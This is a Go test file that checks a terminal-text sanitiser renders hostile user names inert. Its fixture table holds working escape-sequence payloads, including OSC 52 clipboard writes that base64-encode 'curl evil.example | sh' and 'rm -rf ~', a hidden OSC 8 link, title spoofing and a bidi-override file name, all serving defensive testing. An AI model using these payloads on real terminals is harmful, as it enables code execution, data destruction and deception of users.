package termtext

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

var update = flag.Bool("update", false, "rewrite golden files in testdata")

// hostileNames are user names a provider could send to take over the
// admin's terminal: write the clipboard (OSC 52), set the window title
// (OSC 0/2), clear or move around the screen (CSI), hide a link (OSC 8).
var hostileNames = []struct{ name, in string }{
	{"osc52 clipboard", "Mallory\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 Smith"},
	{"osc52 clipboard c1", "Mallory\u009d52;c;cm0gLXJmIH4=\u009c Smith"},
	{"osc0 title", "\x1b]0;root@prod: all users deleted\x1b\\Eve Jones"},
	{"osc2 title bel", "Eve\x1b]2;pwned\x07 Jones"},
	{"csi clear and home", "\x1b[2J\x1b[H\x1b[3J\x1b[?1049hTrent"},
	{"csi colour and cursor", "\x1b[1;31mRED\x1b[0m \x1b[10A\x1b[999C\x1b[1 qOscar"},
	{"osc8 hidden link", "\x1b]8;;https://evil.example/\x1b\\Click me\x1b]8;;\x1b\\"},
	{"dcs request", "Peggy\x1bP$q\"p\x1b\\ Sue"},
	{"bidi trojan", "Invoice \u202egnp.exe\u202c (safe)"},
	{"newlines", "Walter\r\nWhite\tSr."},
}

// TestHostileNamesRenderInert checks each hostile name against the golden
// rendering (a 24-column cell, as the list shows it): the text stays, the
// sequences are gone, and nothing that starts one reaches the output.
func TestHostileNamesRenderInert(t *testing.T) {
	var b strings.Builder
	for _, h := range hostileNames {
		out := Fit(Clean(h.in), 24)
		for _, bad := range []string{"\x1b", "\u009d", "\u009b", "\u009c", "\x07", "]52;", "]0;", "]2;", "\u202e"} {
			if strings.Contains(out, bad) {
				t.Errorf("%s: %q reaches the terminal in %q", h.name, bad, out)
			}
		}
		if Width(out) != 24 {
			t.Errorf("%s: %q is %d columns, want 24", h.name, out, Width(out))
		}
		fmt.Fprintf(&b, "%-22s|%s|\n", h.name, out)
	}
	golden := filepath.Join("testdata", "inert.golden")
	if *update {
		if err := os.WriteFile(golden, []byte(b.String()), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatalf("%v (run with -update to create it)", err)
	}
	if got := b.String(); got != string(want) {
		t.Errorf("rendering differs from %s:\n--- got\n%s--- want\n%s", golden, got, want)
	}
}
